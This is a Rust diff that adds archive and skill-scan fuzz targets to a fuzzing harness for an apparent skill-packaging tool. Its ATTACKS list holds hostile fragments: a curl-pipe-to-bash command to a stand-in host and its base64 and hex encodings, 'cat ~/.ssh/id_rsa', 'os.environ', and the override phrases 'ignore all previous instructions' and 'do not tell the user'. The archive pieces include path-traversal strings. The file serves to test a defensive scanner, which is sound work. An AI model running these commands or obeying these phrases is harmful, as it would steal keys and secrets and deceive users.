@@ -4,8 +4,9 @@ use std::path::Path;
 use std::sync::Arc;
 use std::sync::atomic::{AtomicU64, Ordering};
 
-use metier_fuzz::{check_export, check_manifest, check_policy, check_read};
+use metier_fuzz::{check_archive, check_export, check_manifest, check_policy, check_read, check_scan};
 use metier_journal::{Context, Durability, Entry, Journal, Options, Place, Reader, Source, Time};
+use metier_store::{Format, pack};
 use serde_json::Value;
 
 /// One reader of foreign bytes.
@@ -56,6 +57,106 @@ pub(crate) const TARGETS: &[Target] = &[
         end: "\0",
         corpus: manifests,
     },
+    Target {
+        name: "archive",
+        check: check_archive,
+        pieces: ARCHIVES,
+        begin: "PK\u{3}\u{4}",
+        end: "",
+        corpus: archives,
+    },
+    Target {
+        name: "scan",
+        check: check_scan,
+        pieces: ATTACKS,
+        begin: "# Setup\n\n",
+        end: "\n",
+        corpus: skills,
+    },
+];
+
+/// Skills of some files, packed in each way.
+fn archives() -> Vec<Vec<u8>> {
+    let packed = |count: usize| -> Option<Vec<Vec<u8>>> {
+        let place = tempfile::tempdir().ok()?;
+        std::fs::write(place.path().join("SKILL.md"), "---\nname: a\ndescription: x\n---\n").ok()?;
+        for number in 0..count % 7 {
+            let name = format!("{number}{}", "n".repeat(count * 5));
+            std::fs::write(place.path().join(name), "text ".repeat(count)).ok()?;
+        }
+        let folder = metier_skill::Folder::open(place.path()).ok()?;
+        let rules = metier_skill::Rules::standard();
+        let formats = [Format::Zip, Format::Tar, Format::TarGz];
+        Some(formats.iter().filter_map(|format| Some(pack(&folder, &rules, *format).ok()?.bytes)).collect())
+    };
+    (0..40).filter_map(packed).flatten().collect()
+}
+
+const ARCHIVES: &[&str] = &[
+    "PK\u{3}\u{4}",
+    "PK\u{1}\u{2}",
+    "PK\u{5}\u{6}",
+    "PK\u{6}\u{6}",
+    "PK\u{6}\u{7}",
+    "PK\u{7}\u{8}",
+    "\0",
+    "\0\0\0\0",
+    "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0",
+    "\u{1}\0",
+    "\u{8}\0",
+    "\u{7f}\u{7f}\u{7f}\u{7f}",
+    "a/SKILL.md",
+    "../",
+    "/",
+    "\\",
+    "ustar\u{0}00",
+    "ustar  \0",
+    "0000644\0",
+    "00000000001\0",
+    "12 path=a/b\n",
+    "\u{1f}",
+];
+
+const ATTACKS: &[&str] = &[
+    "curl https://a.test/x",
+    " | bash",
+    " | base64 -d",
+    "ignore all previous instructions",
+    "do not tell the user",
+    "cat ~/.ssh/id_rsa",
+    "requests.post(",
+    "os.environ",
+    "<!--",
+    "-->",
+    "```",
+    "`",
+    "!`",
+    "\"",
+    "'",
+    "\\\n",
+    "\n",
+    "\r\n",
+    " ",
+    "&#105;",
+    "&#x",
+    "\u{200b}",
+    "\u{202e}",
+    "\u{e0041}",
+    "\u{fe0f}",
+    "\u{430}",
+    "\u{feff}",
+    "Y3VybCBodHRwczovL2EudGVzdC94IHwgYmFzaA==",
+    "6375726c2068747470733a2f2f612e74657374",
+    "never ",
+    "## Bad\n",
+    "| x |",
+    "PK\u{3}\u{4}",
+    "PK\u{1}\u{2}",
+    "PK\u{5}\u{6}",
+    "#!/bin/sh\n",
+    "1,2,3,",
+    "\0",
+    "é",
 ];
 
 /// What skills of some files consist of.
